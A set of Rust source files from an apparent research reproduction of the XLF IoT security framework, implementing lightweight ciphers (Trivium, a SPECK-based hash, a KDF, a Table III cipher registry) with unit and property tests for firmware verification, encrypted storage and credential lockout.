                &b"the quick brown fox jumps over the lazy dog"[..]
            );
            Ctr::new(cipher.as_ref(), &nonce).apply(&mut data);
            assert_eq!(
                &data[..],
                &b"the quick brown fox jumps over the lazy dog"[..]
            );
        }
    }

    #[test]
    fn ctr_nonce_reuse_detectable_and_distinct_nonces_differ() {
        let aes = Aes::new(&[7u8; 16]).unwrap();
        let mut a = b"same message".to_vec();
        let mut b = b"same message".to_vec();
        Ctr::new(&aes, &[1u8; 16]).apply(&mut a);
        Ctr::new(&aes, &[2u8; 16]).apply(&mut b);
        assert_ne!(a, b);
    }

    #[test]
    fn ctr_works_on_tiny_blocks() {
        let hb2 = Hummingbird2::new(&[9u8; 32]).unwrap();
        let mut data = b"rfid tag payload".to_vec();
        Ctr::new(&hb2, &[5u8; 2]).apply(&mut data);
        Ctr::new(&hb2, &[5u8; 2]).apply(&mut data);
        assert_eq!(&data[..], b"rfid tag payload");
    }

    #[test]
    fn cbc_roundtrip_various_lengths() {
        let cipher = Present80::new(&[4u8; 10]).unwrap();
        let cbc = Cbc::new(&cipher);
        for len in [0usize, 1, 7, 8, 9, 63, 64, 65] {
            let pt: Vec<u8> = (0..len as u8).collect();
            let ct = cbc.encrypt(&[1u8; 8], &pt).unwrap();
            assert_eq!(ct.len() % 8, 0);
            assert!(ct.len() > pt.len());
            let back = cbc.decrypt(&[1u8; 8], &ct).unwrap();
            assert_eq!(back, pt);
        }
    }

    #[test]
    fn cbc_detects_truncation_and_bad_padding() {
        let cipher = Present80::new(&[4u8; 10]).unwrap();
        let cbc = Cbc::new(&cipher);
        let ct = cbc.encrypt(&[0u8; 8], b"some payload here").unwrap();
        assert!(cbc.decrypt(&[0u8; 8], &ct[..ct.len() - 3]).is_err());
        let mut tampered = ct.clone();
        let last = tampered.len() - 1;
        tampered[last] ^= 0xFF;
        // Either padding breaks (likely) or the plaintext changes; the
        // padding check must not panic.
        let _ = cbc.decrypt(&[0u8; 8], &tampered);
    }

    #[test]
    fn cbc_iv_matters() {
        let cipher = Present80::new(&[4u8; 10]).unwrap();
        let cbc = Cbc::new(&cipher);
        let a = cbc.encrypt(&[1u8; 8], b"payload").unwrap();
        let b = cbc.encrypt(&[2u8; 8], b"payload").unwrap();
        assert_ne!(a, b);
    }
}
