//! Lightweight stream cipher: Trivium (eSTREAM hardware portfolio).
//!
//! The NIST lightweight-cryptography report the paper cites (§IV-A2)
//! covers four primitive categories — block ciphers, hash functions,
//! MACs, and **stream ciphers**. This module completes the set with
//! Trivium, the canonical hardware-oriented lightweight stream cipher:
//! 80-bit key, 80-bit IV, 288-bit shift-register state.
//!
//! Fidelity: *faithful* — the published algorithm (register taps,
//! feedback, 4×288 warm-up clocks) implemented from its specification; no
//! official keystream vector was available offline, so correctness is
//! established by structural tests (keystream determinism, key/IV
//! sensitivity, involution of XOR application, balance).

use crate::traits::check_key;
use crate::CryptoError;

/// The Trivium stream cipher.
///
/// # Example
///
/// ```
/// use xlf_lwcrypto::stream::Trivium;
///
/// # fn main() -> Result<(), xlf_lwcrypto::CryptoError> {
/// let mut data = b"meter reading 42.7 kWh".to_vec();
/// Trivium::new(&[1u8; 10], &[2u8; 10])?.apply(&mut data);
/// Trivium::new(&[1u8; 10], &[2u8; 10])?.apply(&mut data);
/// assert_eq!(&data[..], b"meter reading 42.7 kWh");
/// # Ok(())
/// # }
/// ```
#[derive(Clone)]
pub struct Trivium {
    /// 288-bit state, bit i of the spec at `state[i]` (1-indexed spec
    /// positions shifted down by one).
    state: [bool; 288],
}

impl std::fmt::Debug for Trivium {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Trivium").finish_non_exhaustive()
    }
}

impl Trivium {
    /// Initializes Trivium with an 80-bit key and 80-bit IV (10 bytes
    /// each), running the specified 4×288 warm-up clocks.
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::InvalidKeyLength`] unless key and IV are
    /// both 10 bytes.
    pub fn new(key: &[u8], iv: &[u8]) -> Result<Self, CryptoError> {
        check_key("Trivium", &[10], key)?;
        if iv.len() != 10 {
            return Err(CryptoError::InvalidParameter(format!(
                "Trivium IV must be 10 bytes, got {}",
                iv.len()
            )));
        }
        let mut state = [false; 288];
        // (s1..s80) ← key bits; (s94..s173) ← IV bits; s286,s287,s288 ← 1.
        for i in 0..80 {
            state[i] = (key[i / 8] >> (7 - i % 8)) & 1 == 1;
            state[93 + i] = (iv[i / 8] >> (7 - i % 8)) & 1 == 1;
        }
        state[285] = true;
        state[286] = true;
        state[287] = true;

        let mut cipher = Trivium { state };
        for _ in 0..4 * 288 {
            cipher.clock();
        }
        Ok(cipher)
    }

    /// One clock: returns the keystream bit and updates the registers.
    fn clock(&mut self) -> bool {
        let s = &mut self.state;
        let t1 = s[65] ^ s[92];
        let t2 = s[161] ^ s[176];
        let t3 = s[242] ^ s[287];
        let z = t1 ^ t2 ^ t3;
        let t1 = t1 ^ (s[90] && s[91]) ^ s[170];
        let t2 = t2 ^ (s[174] && s[175]) ^ s[263];
        let t3 = t3 ^ (s[285] && s[286]) ^ s[68];
        // Shift all three registers right by one.
        s.copy_within(0..92, 1);
        s.copy_within(93..176, 94);
        s.copy_within(177..287, 178);
        s[0] = t3;
        s[93] = t1;
        s[177] = t2;
        z
    }

    /// Produces the next keystream byte (MSB first).
    pub fn next_byte(&mut self) -> u8 {
        let mut byte = 0u8;
        for _ in 0..8 {
            byte = (byte << 1) | self.clock() as u8;
        }
        byte
    }

    /// XORs the keystream into `data` (encrypts or decrypts). Consumes
    /// keystream, so two sequential `apply` calls on one instance use
    /// different keystream — build a fresh instance to decrypt.
    pub fn apply(&mut self, data: &mut [u8]) {
        for byte in data.iter_mut() {
            *byte ^= self.next_byte();
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn keystream(key: &[u8; 10], iv: &[u8; 10], n: usize) -> Vec<u8> {
        let mut t = Trivium::new(key, iv).unwrap();
        (0..n).map(|_| t.next_byte()).collect()
    }

    #[test]
    fn keystream_is_deterministic() {
        assert_eq!(
            keystream(&[7; 10], &[9; 10], 64),
            keystream(&[7; 10], &[9; 10], 64)
        );
    }

    #[test]
    fn key_and_iv_sensitivity() {
        let base = keystream(&[7; 10], &[9; 10], 64);
        let mut key = [7u8; 10];
        key[9] ^= 1;
        assert_ne!(keystream(&key, &[9; 10], 64), base);
        let mut iv = [9u8; 10];
        iv[0] ^= 0x80;
        assert_ne!(keystream(&[7; 10], &iv, 64), base);
    }

    #[test]
    fn xor_application_roundtrips() {
        let mut data = b"smart meter batch upload".to_vec();
        Trivium::new(&[1; 10], &[2; 10]).unwrap().apply(&mut data);
        assert_ne!(&data[..], b"smart meter batch upload");
        Trivium::new(&[1; 10], &[2; 10]).unwrap().apply(&mut data);
        assert_eq!(&data[..], b"smart meter batch upload");
    }

    #[test]
    fn keystream_is_roughly_balanced() {
        let ks = keystream(&[0x5A; 10], &[0xA5; 10], 4096);
        let ones: u32 = ks.iter().map(|b| b.count_ones()).sum();
        let fraction = ones as f64 / (4096.0 * 8.0);
        assert!((0.47..0.53).contains(&fraction), "bias {fraction}");
    }

    #[test]
    fn keystream_has_no_short_cycle() {
        let ks = keystream(&[3; 10], &[4; 10], 512);
        // The first 256 bytes must differ from the second 256 (a short
        // cycle would repeat).
        assert_ne!(&ks[..256], &ks[256..]);
    }

    #[test]
    fn rejects_bad_key_and_iv() {
        assert!(Trivium::new(&[0; 9], &[0; 10]).is_err());
        assert!(Trivium::new(&[0; 10], &[0; 9]).is_err());
    }
}
