//! Lightweight cryptographic primitives for the XLF IoT security framework.
//!
//! This crate implements the sixteen block ciphers enumerated in Table III of
//! *"XLF: A Cross-layer Framework to Secure the Internet of Things"*
//! (ICDCS 2019), plus the supporting primitives the framework's mechanisms
//! need: block-cipher modes, message authentication, a lightweight hash, a
//! key-derivation function, and the tokenized searchable encryption used by
//! the encrypted deep-packet-inspection middlebox (BlindBox-style).
//!
//! # Fidelity
//!
//! The reproduction environment is offline, so not every published
//! specification or official test vector was available. Every cipher
//! therefore carries a [`SpecFidelity`] tag describing how faithful it is to
//! the published algorithm. See [`CipherInfo`] and the repository DESIGN.md
//! for the exact taxonomy. Nothing in this crate should be used to protect
//! real data; it exists to reproduce the paper's system behaviour.
//!
//! # Example
//!
//! ```
//! use xlf_lwcrypto::{BlockCipher, ciphers::Present80, modes::Ctr};
//!
//! # fn main() -> Result<(), xlf_lwcrypto::CryptoError> {
//! let cipher = Present80::new(&[0u8; 10])?;
//! let mut data = b"temperature=72F".to_vec();
//! let nonce = [7u8; 8];
//! Ctr::new(&cipher, &nonce).apply(&mut data);
//! assert_ne!(&data[..], &b"temperature=72F"[..]);
//! Ctr::new(&cipher, &nonce).apply(&mut data);
//! assert_eq!(&data[..], &b"temperature=72F"[..]);
//! # Ok(())
//! # }
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod ciphers;
pub mod hash;
pub mod kdf;
pub mod mac;
pub mod modes;
pub mod searchable;
pub mod stream;
mod traits;

pub use traits::{registry, BlockCipher, CipherInfo, CryptoError, SpecFidelity, Structure};
