//! A lightweight 256-bit hash built as a Davies–Meyer compression function
//! over SPECK128/128 in Merkle–Damgård chaining — the construction the NIST
//! lightweight-cryptography report (cited by the paper) describes for
//! building hashes from lightweight block ciphers.
//!
//! This is an original composition for the reproduction (documented as
//! such), not a published standard hash. It is collision-resistant to the
//! extent SPECK is ideal; XLF uses it for firmware fingerprints and token
//! binding inside the simulation only.

use crate::ciphers::Speck128;
use crate::BlockCipher;

/// Output size of [`LightHash`] in bytes.
pub const DIGEST_SIZE: usize = 32;

/// Streaming lightweight hash (Davies–Meyer over SPECK128/128).
///
/// # Example
///
/// ```
/// use xlf_lwcrypto::hash::LightHash;
///
/// let d1 = LightHash::digest(b"firmware image v1");
/// let d2 = LightHash::digest(b"firmware image v2");
/// assert_ne!(d1, d2);
/// assert_eq!(d1, LightHash::digest(b"firmware image v1"));
/// ```
#[derive(Debug, Clone)]
pub struct LightHash {
    /// Two chaining halves of 16 bytes each.
    state: [[u8; 16]; 2],
    buffer: Vec<u8>,
    total_len: u64,
}

impl Default for LightHash {
    fn default() -> Self {
        Self::new()
    }
}

impl LightHash {
    /// Creates a fresh hasher with the fixed IV.
    pub fn new() -> Self {
        LightHash {
            state: [*b"XLF light hash A", *b"XLF light hash B"],
            buffer: Vec::new(),
            total_len: 0,
        }
    }

    /// Absorbs `data` into the hash state.
    pub fn update(&mut self, data: &[u8]) {
        self.total_len = self.total_len.wrapping_add(data.len() as u64);
        self.buffer.extend_from_slice(data);
        while self.buffer.len() >= 16 {
            let block: [u8; 16] = self.buffer[..16].try_into().expect("16 bytes");
            self.compress(&block);
            self.buffer.drain(..16);
        }
    }

    /// Finalizes and returns the 32-byte digest.
    pub fn finalize(mut self) -> [u8; DIGEST_SIZE] {
        // Pad: 0x80, zeros, 8-byte big-endian length.
        let mut tail = self.buffer.clone();
        tail.push(0x80);
        while tail.len() % 16 != 8 {
            tail.push(0);
        }
        tail.extend_from_slice(&self.total_len.to_be_bytes());
        self.buffer.clear();
        for chunk in tail.chunks(16) {
            let block: [u8; 16] = chunk.try_into().expect("16 bytes");
            self.compress(&block);
        }
        let mut out = [0u8; DIGEST_SIZE];
        out[..16].copy_from_slice(&self.state[0]);
        out[16..].copy_from_slice(&self.state[1]);
        out
    }

    /// One-shot convenience digest.
    pub fn digest(data: &[u8]) -> [u8; DIGEST_SIZE] {
        let mut h = LightHash::new();
        h.update(data);
        h.finalize()
    }

    /// Davies–Meyer: H_i = E_{m}(H_{i-1}) ⊕ H_{i-1}, applied to both
    /// halves with domain-separating tweaks.
    fn compress(&mut self, block: &[u8; 16]) {
        let cipher = Speck128::new(block).expect("16-byte key");
        for (i, half) in self.state.iter_mut().enumerate() {
            let mut v = *half;
            // Domain-separate the two halves so they do not stay equal.
            v[0] ^= i as u8 + 1;
            cipher.encrypt_block(&mut v).expect("16-byte block");
            for (h, e) in half.iter_mut().zip(v.iter()) {
                *h ^= e;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic() {
        assert_eq!(LightHash::digest(b"abc"), LightHash::digest(b"abc"));
    }

    #[test]
    fn input_sensitive() {
        assert_ne!(LightHash::digest(b"abc"), LightHash::digest(b"abd"));
        assert_ne!(LightHash::digest(b""), LightHash::digest(b"\0"));
    }

    #[test]
    fn length_extension_padding_separates_prefixes() {
        // "a" and "a\0..0" (a full padded block) must hash differently.
        assert_ne!(
            LightHash::digest(b"a"),
            LightHash::digest(&[b'a', 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0])
        );
    }

    #[test]
    fn streaming_matches_one_shot() {
        let data = b"a longer message spanning multiple compression blocks!!";
        let mut h = LightHash::new();
        for chunk in data.chunks(7) {
            h.update(chunk);
        }
        assert_eq!(h.finalize(), LightHash::digest(data));
    }

    #[test]
    fn no_trivial_collisions_over_small_corpus() {
        use std::collections::HashSet;
        let mut seen = HashSet::new();
        for i in 0..2000u32 {
            let digest = LightHash::digest(&i.to_be_bytes());
            assert!(seen.insert(digest), "collision at {i}");
        }
    }

    #[test]
    fn digest_bits_look_balanced() {
        // Population count over many digests should be near half the bits.
        let mut ones = 0u64;
        let trials = 256u32;
        for i in 0..trials {
            let d = LightHash::digest(&i.to_le_bytes());
            ones += d.iter().map(|b| b.count_ones() as u64).sum::<u64>();
        }
        let total_bits = trials as u64 * DIGEST_SIZE as u64 * 8;
        let fraction = ones as f64 / total_bits as f64;
        assert!((0.45..0.55).contains(&fraction), "bias: {fraction}");
    }
}
