//! Core trait and metadata types shared by every cipher in the crate.

use std::error::Error;
use std::fmt;

/// Error type for all fallible operations in this crate.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CryptoError {
    /// The supplied key has the wrong length for the algorithm.
    InvalidKeyLength {
        /// Algorithm that rejected the key.
        algorithm: &'static str,
        /// Key lengths (in bytes) the algorithm accepts.
        expected: &'static [usize],
        /// Length that was actually supplied.
        actual: usize,
    },
    /// A buffer was not a whole number of blocks long.
    InvalidBlockLength {
        /// Block size in bytes the algorithm requires.
        block_size: usize,
        /// Length that was actually supplied.
        actual: usize,
    },
    /// Ciphertext failed integrity verification.
    IntegrityFailure,
    /// A parameter was outside the supported range.
    InvalidParameter(String),
}

impl fmt::Display for CryptoError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            CryptoError::InvalidKeyLength {
                algorithm,
                expected,
                actual,
            } => write!(
                f,
                "invalid key length for {algorithm}: expected one of {expected:?} bytes, got {actual}"
            ),
            CryptoError::InvalidBlockLength { block_size, actual } => write!(
                f,
                "buffer length {actual} is not a multiple of the {block_size}-byte block size"
            ),
            CryptoError::IntegrityFailure => write!(f, "integrity verification failed"),
            CryptoError::InvalidParameter(msg) => write!(f, "invalid parameter: {msg}"),
        }
    }
}

impl Error for CryptoError {}

/// How faithful an implementation is to the published specification.
///
/// The reproduction was built offline; this tag keeps every cipher honest
/// about what could and could not be verified. See DESIGN.md §1.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum SpecFidelity {
    /// Full published specification, verified against an embedded
    /// known-answer test vector.
    Exact,
    /// Full published specification implemented from the algorithm
    /// description; no official vector was available offline. Validated by
    /// roundtrip/avalanche/key-sensitivity property tests.
    Faithful,
    /// Reconstructed from the structural parameters given in the paper's
    /// Table III (key size, block size, structure family, rounds) using
    /// standard components; the published S-boxes/schedules were not
    /// reliably available offline.
    Structural,
}

impl fmt::Display for SpecFidelity {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            SpecFidelity::Exact => "exact",
            SpecFidelity::Faithful => "faithful",
            SpecFidelity::Structural => "structural",
        };
        f.write_str(s)
    }
}

/// Design family of a block cipher, following the paper's Table III.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Structure {
    /// Substitution–permutation network.
    Spn,
    /// Classical (balanced) Feistel network.
    Feistel,
    /// Generalized Feistel structure.
    GeneralizedFeistel,
    /// Add–rotate–xor network (SPECK/SIMON-style).
    Arx,
}

impl fmt::Display for Structure {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            Structure::Spn => "SPN",
            Structure::Feistel => "Feistel",
            Structure::GeneralizedFeistel => "GFS",
            Structure::Arx => "ARX",
        };
        f.write_str(s)
    }
}

/// Static metadata describing a cipher, mirroring a row of Table III.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CipherInfo {
    /// Canonical algorithm name as used in the paper's Table III.
    pub name: &'static str,
    /// Key sizes in bits the implementation accepts.
    pub key_bits: &'static [usize],
    /// Block size in bits.
    pub block_bits: usize,
    /// Design family.
    pub structure: Structure,
    /// Number of rounds (for the keying used by this instance).
    pub rounds: usize,
    /// Fidelity of this implementation to the published specification.
    pub fidelity: SpecFidelity,
}

/// A block cipher with a fixed block size and an expanded key.
///
/// The trait is object-safe so heterogeneous cipher sets (e.g. the Table III
/// registry used by the negotiation module) can be handled uniformly.
///
/// # Example
///
/// ```
/// use xlf_lwcrypto::{BlockCipher, ciphers::Tea};
///
/// # fn main() -> Result<(), xlf_lwcrypto::CryptoError> {
/// let cipher = Tea::new(&[0x42; 16])?;
/// let mut block = *b"8 bytes!";
/// cipher.encrypt_block(&mut block)?;
/// cipher.decrypt_block(&mut block)?;
/// assert_eq!(&block, b"8 bytes!");
/// # Ok(())
/// # }
/// ```
pub trait BlockCipher: Send + Sync {
    /// Block size in bytes.
    fn block_size(&self) -> usize;

    /// Encrypts one block in place.
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::InvalidBlockLength`] if `block` is not exactly
    /// [`block_size`](Self::block_size) bytes long.
    fn encrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError>;

    /// Decrypts one block in place.
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::InvalidBlockLength`] if `block` is not exactly
    /// [`block_size`](Self::block_size) bytes long.
    fn decrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError>;

    /// Static metadata for this cipher (Table III row).
    fn info(&self) -> CipherInfo;
}

pub(crate) fn check_block(block: &[u8], block_size: usize) -> Result<(), CryptoError> {
    if block.len() != block_size {
        Err(CryptoError::InvalidBlockLength {
            block_size,
            actual: block.len(),
        })
    } else {
        Ok(())
    }
}

pub(crate) fn check_key(
    algorithm: &'static str,
    expected: &'static [usize],
    key: &[u8],
) -> Result<(), CryptoError> {
    if expected.contains(&key.len()) {
        Ok(())
    } else {
        Err(CryptoError::InvalidKeyLength {
            algorithm,
            expected,
            actual: key.len(),
        })
    }
}

/// Instantiates every Table III cipher with a key derived from `seed`,
/// returning the full registry used by the Table III harness and the XLF
/// cipher-negotiation module.
///
/// The seed is stretched by repetition; registries built from equal seeds
/// are identical.
///
/// # Example
///
/// ```
/// let registry = xlf_lwcrypto::registry(b"example seed");
/// assert!(registry.len() >= 16);
/// ```
pub fn registry(seed: &[u8]) -> Vec<Box<dyn BlockCipher>> {
    use crate::ciphers::*;

    fn key(seed: &[u8], len: usize) -> Vec<u8> {
        assert!(!seed.is_empty(), "seed must be non-empty");
        seed.iter().copied().cycle().take(len).collect()
    }

    let k = |n| key(seed, n);
    vec![
        Box::new(Aes::new(&k(16)).expect("aes-128 key")) as Box<dyn BlockCipher>,
        Box::new(Aes::new(&k(24)).expect("aes-192 key")),
        Box::new(Aes::new(&k(32)).expect("aes-256 key")),
        Box::new(Hight::new(&k(16)).expect("hight key")),
        Box::new(Present80::new(&k(10)).expect("present-80 key")),
        Box::new(Present128::new(&k(16)).expect("present-128 key")),
        Box::new(Rc5::new(&k(16), 12).expect("rc5 key")),
        Box::new(Tea::new(&k(16)).expect("tea key")),
        Box::new(Xtea::new(&k(16)).expect("xtea key")),
        Box::new(Lea::new(&k(16)).expect("lea-128 key")),
        Box::new(Lea::new(&k(24)).expect("lea-192 key")),
        Box::new(Lea::new(&k(32)).expect("lea-256 key")),
        Box::new(Des::new(&k(8)).expect("des key")),
        Box::new(Seed::new(&k(16)).expect("seed key")),
        Box::new(Twine::new(&k(10)).expect("twine-80 key")),
        Box::new(Twine::new(&k(16)).expect("twine-128 key")),
        Box::new(Desl::new(&k(8)).expect("desl key")),
        Box::new(TripleDes::new(&k(24)).expect("3des key")),
        Box::new(Hummingbird2::new(&k(32)).expect("hummingbird2 key")),
        Box::new(Iceberg::new(&k(16)).expect("iceberg key")),
        Box::new(Pride::new(&k(16)).expect("pride key")),
        Box::new(Speck128::new(&k(16)).expect("speck key")),
        Box::new(Simon128::new(&k(16)).expect("simon key")),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn error_display_is_informative() {
        let err = CryptoError::InvalidKeyLength {
            algorithm: "AES",
            expected: &[16, 24, 32],
            actual: 7,
        };
        let msg = err.to_string();
        assert!(msg.contains("AES"));
        assert!(msg.contains('7'));
    }

    #[test]
    fn fidelity_orders_from_most_to_least_verified() {
        assert!(SpecFidelity::Exact < SpecFidelity::Faithful);
        assert!(SpecFidelity::Faithful < SpecFidelity::Structural);
    }

    #[test]
    fn registry_covers_all_table3_algorithms() {
        let reg = registry(b"seed");
        let names: Vec<&str> = reg.iter().map(|c| c.info().name).collect();
        for expected in [
            "AES",
            "HIGHT",
            "PRESENT",
            "RC5",
            "TEA",
            "XTEA",
            "LEA",
            "DES",
            "SEED",
            "TWINE",
            "DESL",
            "3DES",
            "Hummingbird-2",
            "Iceberg",
            "PRIDE",
        ] {
            assert!(names.contains(&expected), "missing {expected}");
        }
    }

    #[test]
    fn registry_is_deterministic() {
        let a = registry(b"alpha");
        let b = registry(b"alpha");
        for (ca, cb) in a.iter().zip(b.iter()) {
            let mut block_a = vec![0xA5u8; ca.block_size()];
            let mut block_b = vec![0xA5u8; cb.block_size()];
            ca.encrypt_block(&mut block_a).unwrap();
            cb.encrypt_block(&mut block_b).unwrap();
            assert_eq!(block_a, block_b, "{} diverged", ca.info().name);
        }
    }
}
