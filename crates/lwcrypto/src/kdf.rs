//! Key derivation: an extract-then-expand KDF (HKDF-shaped) built on the
//! crate's [`crate::hash::LightHash`] and CBC-MAC PRF, used by
//! XLF to derive per-session, per-device, and per-purpose keys from a
//! master secret.

use crate::ciphers::Speck128;
use crate::hash::LightHash;
use crate::mac::prf;
use crate::CryptoError;

/// Derives `len` bytes of key material from `secret`, bound to `context`.
///
/// Extract: hash the secret into a uniform 32-byte PRK. Expand: PRF chain
/// keyed by the PRK's first 16 bytes, feeding back each output block.
///
/// # Errors
///
/// Returns [`CryptoError::InvalidParameter`] if `len` is zero or greater
/// than 1024, or if `secret` is empty.
///
/// # Example
///
/// ```
/// # fn main() -> Result<(), xlf_lwcrypto::CryptoError> {
/// let session = xlf_lwcrypto::kdf::derive_key(b"master", "device-42/session", 16)?;
/// let other = xlf_lwcrypto::kdf::derive_key(b"master", "device-43/session", 16)?;
/// assert_ne!(session, other);
/// # Ok(())
/// # }
/// ```
pub fn derive_key(secret: &[u8], context: &str, len: usize) -> Result<Vec<u8>, CryptoError> {
    if secret.is_empty() {
        return Err(CryptoError::InvalidParameter(
            "KDF secret must be non-empty".to_string(),
        ));
    }
    if len == 0 || len > 1024 {
        return Err(CryptoError::InvalidParameter(format!(
            "KDF output length must be 1..=1024, got {len}"
        )));
    }

    // Extract.
    let mut extract = LightHash::new();
    extract.update(b"xlf-kdf-extract");
    extract.update(secret);
    let prk = extract.finalize();

    // Expand.
    let cipher = Speck128::new(&prk[..16]).expect("16-byte PRK half");
    let mut out = Vec::with_capacity(len);
    let mut previous: Vec<u8> = prk[16..].to_vec();
    let mut counter = 0u32;
    while out.len() < len {
        let mut input = previous.clone();
        input.extend_from_slice(context.as_bytes());
        input.extend_from_slice(&counter.to_be_bytes());
        let block = prf(&cipher, "xlf-kdf-expand", &input)?;
        out.extend_from_slice(&block);
        previous = block;
        counter += 1;
    }
    out.truncate(len);
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic() {
        assert_eq!(
            derive_key(b"s", "ctx", 32).unwrap(),
            derive_key(b"s", "ctx", 32).unwrap()
        );
    }

    #[test]
    fn context_and_secret_sensitive() {
        let base = derive_key(b"secret", "a", 16).unwrap();
        assert_ne!(base, derive_key(b"secret", "b", 16).unwrap());
        assert_ne!(base, derive_key(b"secreT", "a", 16).unwrap());
    }

    #[test]
    fn prefix_consistency_across_lengths() {
        let short = derive_key(b"s", "ctx", 16).unwrap();
        let long = derive_key(b"s", "ctx", 48).unwrap();
        assert_eq!(short[..], long[..16]);
    }

    #[test]
    fn rejects_degenerate_parameters() {
        assert!(derive_key(b"", "ctx", 16).is_err());
        assert!(derive_key(b"s", "ctx", 0).is_err());
        assert!(derive_key(b"s", "ctx", 4096).is_err());
    }

    #[test]
    fn output_lengths_exact() {
        for len in [1usize, 15, 16, 17, 100, 1024] {
            assert_eq!(derive_key(b"s", "ctx", len).unwrap().len(), len);
        }
    }
}
