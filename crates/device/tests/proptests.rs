//! Property-based tests over the device-layer substrates: firmware codec
//! and policy invariants, storage confidentiality, credential hygiene.

use proptest::prelude::*;
use xlf_device::firmware::{FirmwareImage, FirmwareStore, UpdatePolicy, Version};
use xlf_device::{CredentialStore, LocalStore, LoginOutcome, StorageEncryption};

fn version() -> impl Strategy<Value = Version> {
    (any::<u16>(), any::<u16>(), any::<u16>()).prop_map(|(a, b, c)| Version(a, b, c))
}

fn vendor() -> impl Strategy<Value = String> {
    "[a-z]{1,12}"
}

proptest! {
    /// Firmware serialization roundtrips any image (signed or not).
    #[test]
    fn firmware_codec_roundtrips(v in version(),
                                 vendor in vendor(),
                                 payload in prop::collection::vec(any::<u8>(), 0..512),
                                 signed in any::<bool>(),
                                 secret in prop::collection::vec(any::<u8>(), 1..32)) {
        let image = if signed {
            FirmwareImage::signed(v, &vendor, payload, &secret)
        } else {
            FirmwareImage::unsigned(v, &vendor, payload)
        };
        let parsed = FirmwareImage::from_bytes(&image.to_bytes()).unwrap();
        prop_assert_eq!(parsed, image);
    }

    /// `from_bytes` over *arbitrary* bytes — the wire-facing parser —
    /// never panics: every input either parses or returns a structured
    /// error. (Regression: the length-prefix reader computed
    /// `pos + n` unchecked, so a crafted prefix near `usize::MAX`
    /// overflowed and panicked in debug builds.)
    #[test]
    fn from_bytes_never_panics_on_arbitrary_input(
        data in prop::collection::vec(any::<u8>(), 0..600)) {
        let _ = FirmwareImage::from_bytes(&data);
    }

    /// Any bytes that *do* parse re-serialize to the exact same bytes —
    /// the codec has one canonical encoding per image, so a parsed
    /// update can be re-shipped (or hashed) without drift.
    #[test]
    fn parsed_bytes_reserialize_canonically(
        data in prop::collection::vec(any::<u8>(), 0..600)) {
        if let Ok(image) = FirmwareImage::from_bytes(&data) {
            let bytes = image.to_bytes();
            let reparsed = FirmwareImage::from_bytes(&bytes).unwrap();
            prop_assert_eq!(reparsed.to_bytes(), bytes);
        }
    }

    /// Any payload tampering breaks verification; valid images verify.
    #[test]
    fn firmware_verification_binds_payload(v in version(),
                                           payload in prop::collection::vec(any::<u8>(), 1..256),
                                           bit in any::<u16>(),
                                           secret in prop::collection::vec(any::<u8>(), 1..32)) {
        let image = FirmwareImage::signed(v, "acme", payload.clone(), &secret);
        prop_assert!(image.verify(&secret).is_ok());
        let mut tampered = image.clone();
        let b = bit as usize % (payload.len() * 8);
        tampered.payload[b / 8] ^= 1 << (b % 8);
        prop_assert!(tampered.verify(&secret).is_err());
    }

    /// A strict store's version only ever moves forward, whatever the
    /// sequence of offered updates.
    #[test]
    fn strict_store_is_monotone(updates in prop::collection::vec(
        (version(), any::<bool>()), 1..16)) {
        let secret = b"vendor secret";
        let factory = FirmwareImage::signed(Version(1, 0, 0), "acme", b"v1".to_vec(), secret);
        let mut store = FirmwareStore::new(factory, UpdatePolicy::strict(), secret);
        let mut last = Version(1, 0, 0);
        for (v, sign) in updates {
            let image = if sign {
                FirmwareImage::signed(v, "acme", b"u".to_vec(), secret)
            } else {
                FirmwareImage::unsigned(v, "acme", b"u".to_vec())
            };
            let _ = store.apply(image);
            let current = store.installed().version;
            prop_assert!(current >= last, "version moved backwards");
            last = current;
        }
    }

    /// Encrypted storage roundtrips any value and never exposes plaintext
    /// markers of length ≥ 4 at rest.
    #[test]
    fn encrypted_storage_confidentiality(key in "[a-z]{1,8}",
                                         value in prop::collection::vec(any::<u8>(), 4..128),
                                         secret in prop::collection::vec(any::<u8>(), 1..32)) {
        let mut store = LocalStore::new(StorageEncryption::Encrypted {
            device_secret: secret,
        });
        store.put(&key, &value);
        prop_assert_eq!(store.get(&key).unwrap(), value.clone());
        // The raw bytes at rest must not contain the full value.
        let raw = store.raw_at_rest(&key).unwrap();
        prop_assert!(
            !raw.windows(value.len()).any(|w| w == &value[..])
                || value.iter().all(|&b| b == value[0]),
        );
    }

    /// Credential lockout engages after exactly the threshold, for any
    /// threshold and any wrong-password stream.
    #[test]
    fn lockout_engages_exactly_at_threshold(threshold in 1u32..8,
                                            attempts in 1u32..16) {
        let mut store = CredentialStore::hardened();
        store.lockout_threshold = Some(threshold);
        store.add_user("u", "correct-password-123");
        for i in 0..attempts {
            let outcome = store.login("u", "wrong");
            if i < threshold {
                prop_assert_eq!(outcome, LoginOutcome::WrongPassword, "attempt {}", i);
            } else {
                prop_assert_eq!(outcome, LoginOutcome::LockedOut, "attempt {}", i);
            }
        }
    }

    /// Password strength is monotone in added character classes.
    #[test]
    fn strength_rewards_complexity(base in "[a-z]{8,16}") {
        let simple = CredentialStore::password_strength(&base);
        let richer = CredentialStore::password_strength(&format!("{base}A1!"));
        prop_assert!(richer >= simple);
    }
}
